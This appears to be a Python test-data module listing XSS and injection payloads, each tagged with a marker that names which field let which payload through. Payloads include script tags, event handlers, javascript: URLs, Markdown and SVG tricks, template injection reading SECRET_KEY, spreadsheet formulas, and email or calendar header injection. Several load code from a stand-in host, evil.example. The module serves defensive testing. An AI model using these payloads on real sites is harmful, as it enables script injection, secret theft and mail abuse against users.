"""XSS and injection payloads. ``{m}`` is replaced by a marker that names the field and the
payload (``xss-case.title-17``), placed where a successful attack would run or load it, so
a finding in an output says which field let which payload through.

Every payload fits in 150 characters (the shortest text fields hold 200)."""

PAYLOADS = [
    # script elements
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=https://evil.example/{m}.js></SCRIPT>",
    "<script src=//evil.example/{m}.js></script>",
    "<script\x0d\x0a>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "<!--<script>alert('{m}')</script>-->",
    "<noscript><p title=\"</noscript><script>alert('{m}')</script>\">",
    # event handlers
    "<img src=x onerror=alert('{m}')>",
    "<IMG SRC=x OnErRoR=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<div onmouseover=\"alert('{m}')\">hover</div>",
    "<a href=# onclick=alert('{m}')>click</a>",
    "<iframe onload=alert('{m}')></iframe>",
    # javascript: and other script URLs
    "<a href=\"javascript:alert('{m}')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('{m}')\">x</a>",
    "<a href=\" &#14; javascript:alert('{m}')\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('{m}')\">x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD4=#{m}">x</a>',
    "<a href=\"vbscript:msgbox('{m}')\">x</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<form action=\"javascript:alert('{m}')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">go</button>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    '<embed src="https://evil.example/{m}.swf">',
    '<base href="https://evil.example/{m}/">',
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\">",
    '<link rel=stylesheet href="https://evil.example/{m}.css">',
    # Markdown links and images
    "[click](javascript:alert('{m}'))",
    "[click]( javascript:alert('{m}') )",
    "[click](javascript&#58;alert('{m}'))",
    "![img](javascript:alert('{m}'))",
    "![img](https://evil.example/{m}.png)",
    "![img](x\" onerror=\"alert('{m}'))",
    "[click][r]\n\n[r]: javascript:alert('{m}')",
    "<javascript:alert('{m}')>",
    "[x](data:text/html;base64,PHNjcmlwdD4=#{m})",
    '[x](https://ok.example/ "title" onmouseover="alert(\'{m}\')")',
    # SVG and MathML
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=\"javascript:alert('{m}')\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<svg><style><img src=x onerror=alert('{m}')></style></svg>",
    # broken tags and parser tricks
    "<img src=\"x` `<script>alert('{m}')</script>\"` `>",
    "<<img src=x onerror=alert('{m}')//<",
    "<img/src=x/onerror=alert('{m}')>",
    "<iframe srcdoc=\"&lt;script&gt;alert('{m}')&lt;/script&gt;\"></iframe>",
    "<xss-{m} id=x></xss-{m}>",
    "<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
    "<style>@import 'https://evil.example/{m}.css';</style>",
    '<div hx-get="/{m}" hx-trigger="load">x</div>',
    "<template><script>alert('{m}')</script></template>",
    # attribute breakouts (for values written into attributes)
    '" onmouseover="alert(\'{m}\')" x="',
    "' onmouseover='alert(`{m}`)' x='",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    '" autofocus onfocus="alert(\'{m}\')" x-{m}="',
    "` onmouseover=alert('{m}') `",
    # template injection
    "{{ 7|add:42 }}={m}",
    "{% debug %}{{ settings.SECRET_KEY }}{m}",
    "${7*7}#{7*7}{{7*7}}={m}",
    # spreadsheet formulas
    '=HYPERLINK("https://evil.example/{m}","click")',
    "+SUM(1,1) {m}",
    "-2+3 {m}",
    "@SUM(1+1) {m}",
    "\t=1+1 {m}",
    "\r=1+1 {m}",
    # header, line and property injection
    "Hej\r\nBcc: evil@evil.example\r\nX-{m}: 1",
    "Hej\nSubject: {m}",
    "Hej\r\nATTENDEE:mailto:{m}@evil.example",
    "Hej\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:{m}",
    "Hej\u2028X-{m}: 1\u2029",
]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def payload(index: int, field: str) -> str:
    return PAYLOADS[index].replace("{m}", marker(index, field))


def marker(index: int, field: str) -> str:
    return f"xss-{field}-{index}"


def field_of(found_marker: str) -> str:
    return found_marker[len("xss-") :].rsplit("-", 1)[0]


assert all(len(payload(i, "case.implementation_notes")) <= 200 for i in range(len(PAYLOADS)))
